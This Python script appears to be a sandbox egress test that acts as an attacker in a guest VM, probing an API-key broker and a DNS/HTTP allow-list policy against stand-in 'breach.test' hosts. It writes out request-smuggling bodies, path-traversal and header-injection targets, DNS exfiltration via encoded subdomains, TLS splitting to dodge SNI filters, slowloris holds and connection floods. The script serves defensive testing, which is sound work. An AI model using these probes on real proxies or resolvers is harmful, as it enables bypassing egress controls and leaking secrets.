# What root in a guest tries at the broker of keys and under a policy of names, after what files/attacker.py has. WORLD says where
# all is. Whatever must not be heard by anybody outside bears the word "breach".
import resource, ssl

BROKER, GATEWAY, OUTSIDE, TOKEN = tuple(WORLD["broker"]), WORLD["gateway"], WORLD["outside"], WORLD["token"].encode()
ENOUGH = 1 << 30


def served(answer):
    """Whether somebody outside answered: the stand-in says who it is, and everything that succeeds is its."""
    return b"stand-in" in answer or answer.startswith((b"HTTP/1.1 2", b"HTTP/1.0 2"))


def request(target, *headers, method=b"GET", host=b"broker", body=b""):
    lines = [method + b" " + target + b" HTTP/1.1", b"Host: " + host, b"Connection: close", *headers]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def ask(data):
    return exchange(*BROKER, data)


def endless_head():
    """A header of a gigabyte, as far as it is taken."""
    sent, piece = 0, b"x" * (1 << 20)
    with socket.create_connection(BROKER, PATIENCE) as s:
        try:
            s.sendall(b"GET /anthropic/v1/breach HTTP/1.1\r\nX-Api-Key: " + TOKEN + b"\r\nX: ")
            while sent < ENOUGH:
                s.sendall(piece)
                sent += len(piece)
        except OSError:
            pass
    return sent


def half_heads(count):
    """So many connections that never say what they want, all open at once."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (2 * count, 2 * count))
    held = []
    for _ in range(count):
        try:
            s = socket.create_connection(BROKER, PATIENCE)
            s.sendall(b"GET /anthropic/v1/breach HTTP/1.1\r\n")
            held.append(s)
        except OSError:
            pass
    return held


def keys():
    good = b"X-Api-Key: " + TOKEN
    path = b"/anthropic/v1/breach"
    control("a request with the token", served(ask(request(b"/anthropic/v1/models", good))))
    for name, header in [("without a token", b"X: y"), ("with an empty token", b"X-Api-Key: "),
                         ("with another token of the same length", b"X-Api-Key: " + TOKEN[::-1]),
                         ("with half of the token", b"X-Api-Key: " + TOKEN[: len(TOKEN) // 2]),
                         ("with more than the token", good + b"x"),
                         ("with the token in the wrong case", b"X-Api-Key: " + TOKEN.swapcase()),
                         ("with the token as a cookie", b"Cookie: key=" + TOKEN),
                         ("with the token as a password", b"Authorization: Basic " + TOKEN),
                         ("with the token in the proxy's header", b"Proxy-Authorization: Bearer " + TOKEN),
                         ("with the token after a line's end", b"X: y\rX-Api-Key: " + TOKEN),
                         ("with a token that ends in nothing", good + b"\0")]:
        said("a request " + name, served(ask(request(path, header))))
    said("the token in the path", served(ask(request(path + b"?key=" + TOKEN))))
    for name, target in [("another provider", b"/openai/v1/breach"), ("one more provider", b"/minimax/v1/breach"),
                         ("a provider that there is not", b"/breach.test/v1/models"), ("no provider", b"/"),
                         ("a provider by dots", b"/anthropic/../openai/breach"),
                         ("a provider by hidden dots", b"/anthropic/%2e%2e/openai/breach"),
                         ("a provider by a hidden slash", b"/anthropic%2fv1/breach"),
                         ("a host after two slashes", b"/anthropic//breach.test/"),
                         ("a host by a backslash", b"/anthropic/\\breach.test/"),
                         ("a host as a proxy is asked", b"http://breach.test/anthropic/v1/breach"),
                         ("a host before an at", b"/anthropic@breach.test/v1/breach"),
                         ("a star", b"*")]:
        said("asking for " + name, served(ask(request(target, good))))
    said("a tunnel", served(ask(request(OUTSIDE.encode() + b":8443", good, method=b"CONNECT"))))
    length = lambda *all: [b"Content-Length: " + one for one in all]
    for name, headers, body in [("two lengths", length(b"5", b"6"), b"hello"), ("one length of two", length(b"5, 6"), b"hello"),
                                ("a length with a sign", length(b"+5"), b"hello"), ("a negative length", length(b"-1"), b""),
                                ("a length beyond all", length(b"9" * 30), b""),
                                ("an encoding that nobody knows", [b"Transfer-Encoding: chunked, gzip"], b"0\r\n\r\n"),
                                ("an encoding twice", [b"Transfer-Encoding: chunked"] * 2, b"z\r\n"),
                                ("a chunk beyond all", [b"Transfer-Encoding: chunked"], b"f" * 20 + b"\r\n"),
                                ("a space before the colon", [b"Transfer-Encoding : chunked"], b"0\r\n\r\n")]:
        said("a request with " + name, served(ask(request(path, good, *headers, method=b"POST", body=body))))
    inner = b"GET /v1/breach HTTP/1.1\r\nHost: provider\r\nX-Api-Key: none\r\n\r\n"
    for name, headers, body in [
            ("a length and chunks", [*length(b"4"), b"Transfer-Encoding: chunked"], b"0\r\n\r\n" + inner),
            ("chunks and a length", [b"Transfer-Encoding: chunked", *length(b"%d" % len(inner))], b"0\r\n\r\n" + inner),
            ("chunks after a tab", [b"Transfer-Encoding:\tchunked"], b"0\r\n\r\n" + inner),
            ("no body at all", [], inner)]:
        # The outer request may pass. What counts is that nobody hears the one inside: the recorded requests tell.
        ask(request(b"/anthropic/v1/models", good, *headers, method=b"POST", body=body))
        print("sent a request inside another:", name, flush=True)
    for name, data in [("a head of ten thousand lines", b"GET " + path + b" HTTP/1.1\r\n" + good + b"\r\n" + b"X: y\r\n" * 10000 + b"\r\n"),
                       ("a path of a megabyte", request(path + b"/" * (1 << 20), good)),
                       ("HTTP/2 at once", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 9), ("noise", os.urandom(4096)),
                       ("a greeting in TLS", b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03" + os.urandom(600))]:
        said(name, served(ask(data)))
    sent = endless_head()
    said("a header of a gigabyte", sent >= ENOUGH, "ended after %d MiB" % (sent >> 20))
    held = half_heads(1500)
    print("sent %d requests that never end" % len(held), flush=True)
    for s in held:
        s.close()
    end = time.monotonic() + 60
    while not served(ask(request(b"/anthropic/v1/models", good))):
        control("a request after all that", time.monotonic() < end)


def tls(name, target=b"/", port=443, address=None, cut=None):
    """A whole exchange over TLS; `cut` makes pieces of the first message."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname=name)
    with socket.socket() as s:
        s.settimeout(PATIENCE)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

        def until_done(step):
            nonlocal cut
            while True:
                try:
                    return step()
                except ssl.SSLWantReadError:
                    flight = outgoing.read()
                    for piece in (cut(flight) if cut and flight else [flight]):
                        s.sendall(piece)
                    cut = None
                    more = s.recv(16384)
                    if not more:
                        raise OSError("ended")
                    incoming.write(more)

        try:
            s.connect((address or OUTSIDE, port))
            until_done(session.do_handshake)
            session.write(request(target, host=(name or OUTSIDE).encode()))
            return until_done(lambda: session.read(16384))
        except (OSError, ssl.SSLError):
            return b""


def byte_by_byte(flight):
    return [flight[at : at + 1] for at in range(len(flight))]


def in_records(flight):
    """The same message in three records of TLS, and not one."""
    head, message = flight[:3], flight[5:]
    third = len(message) // 3
    parts = [message[:third], message[third : 2 * third], message[2 * third :]]
    return [b"".join(head + struct.pack("!H", len(part)) + part for part in parts)]


def names():
    control("an allowed name's address", has_answer(datagram(GATEWAY, 53, question("allowed.test"))))
    control("a name below an allowed one", has_answer(datagram("8.8.8.8", 53, question("www.wild.test"))))
    control("an allowed site", served(exchange(OUTSIDE, 80, request(b"/control", host=b"allowed.test"))))
    control("an allowed site over TLS", served(tls("allowed.test", b"/control")))
    control("the same, byte by byte", served(tls("allowed.test", b"/control", cut=byte_by_byte)))
    for name in ["breach.test", "c2VjcmV0.breach.test", "allowed.test.breach.test", "breach.allowed.test", "wild.test",
                 "breach-%s.test" % ("a" * 50)]:
        said("the address of " + name[:30], has_answer(datagram(GATEWAY, 53, question(name))))
    said("the same of a foreign name server", has_answer(datagram(OUTSIDE, 53, question("breach.test"))))
    over_tcp = question("breach.test")
    said("the same over TCP", has_answer(exchange(OUTSIDE, 53, struct.pack("!H", len(over_tcp)) + over_tcp)[2:]))
    for kind, number in [("text", 16), ("everything", 255), ("a whole zone", 252), ("keys", 65)]:
        said("a question for %s" % kind, has_answer(datagram(GATEWAY, 53, question("www.wild.test", number))))
    said("an update of a zone", has_answer(datagram(GATEWAY, 53, b"\0\x07\x28\0" + question("breach.wild.test")[4:])))
    for name, data in [("by its address", request(b"/breach", host=OUTSIDE.encode())), ("by its name", request(b"/breach", host=b"breach.test")),
                       ("by a name that ends alike", request(b"/breach", host=b"notallowed.test")),
                       ("by two names", request(b"/breach", b"Host: allowed.test", host=b"breach.test")),
                       ("by two names the other way", request(b"/breach", b"Host: breach.test", host=b"allowed.test")),
                       ("by a name before an at", request(b"/breach", host=b"allowed.test@breach.test")),
                       ("by a name and a zero", request(b"/breach", host=b"breach.test\0.allowed.test")),
                       ("as a proxy is asked", request(b"http://breach.test/breach", host=b"allowed.test")),
                       ("by another port", request(b"/breach", host=b"allowed.test:8080")),
                       ("without a name", b"GET /breach HTTP/1.0\r\n\r\n"),
                       ("with its name in pieces", [b"GET /breach HTTP/1.1\r\nHo", b"st: breach", b".test\r\n\r\n"]),
                       ("after an allowed one", request(b"/control", host=b"allowed.test").replace(b"close", b"keep-alive")
                        + request(b"/breach", host=b"breach.test"))]:
        answer = exchange(OUTSIDE, 80, data)
        # The one that follows an allowed one may have the answer of the first before its own.
        said("a forbidden site " + name, answer.count(b"stand-in") > (b"/control" in data))
    for name in ["lan.wild.test", "metadata.wild.test", "host.wild.test", "own.wild.test"]:
        said("an allowed name that leads to " + name, served(exchange(OUTSIDE, 80, request(b"/breach", host=name.encode()))))
        said("the same over TLS", served(tls(name, b"/breach")))
    for text, name, cut in [("with its name", "breach.test", None), ("without a name", None, None),
                            ("byte by byte", "breach.test", byte_by_byte), ("in three records", "breach.test", in_records)]:
        said("a forbidden site over TLS " + text, served(tls(name, b"/breach", cut=cut)))
    said("names by HTTPS", served(tls("dns.breach.test", b"/dns-query?breach", address="8.8.8.8")))
    said("names by TLS", served(tls("allowed.test", b"/breach", port=853)))
    said("an allowed site at another port", served(tls("allowed.test", b"/breach", port=8443)))
    said("QUIC", datagram(OUTSIDE, 443, b"\xc0\0\0\0\x01breach"))
    said("ping", pinged(OUTSIDE))
    before = time.monotonic()
    _, asked = connections(OUTSIDE, [443] * WORLD["flood"], seconds=150)
    print("sent %d connections in %.0f s" % (asked, time.monotonic() - before), flush=True)
    end = time.monotonic() + 60
    while not served(exchange(OUTSIDE, 80, request(b"/control", host=b"allowed.test"))):
        control("an allowed site after all that", time.monotonic() < end)


def before():
    """Each way by which something would be heard, open as it is under the default policy."""
    control("the site", served(exchange(OUTSIDE, 80, request(b"/open"))))
    control("the site over TLS", served(tls("breach.test", b"/open")))
    control("the same in three records", served(tls("breach.test", b"/open", cut=in_records)))
    control("the site at its other port", served(tls("allowed.test", b"/open", port=8443)))
    control("a datagram", datagram(OUTSIDE, 443, b"open") == b"open")
    control("a name server", has_answer(datagram(OUTSIDE, 53, question("forbidden.test"))))
    control("ping", pinged(OUTSIDE))


{"before": before, "keys": keys, "names": names}[WORLD["what"]]()
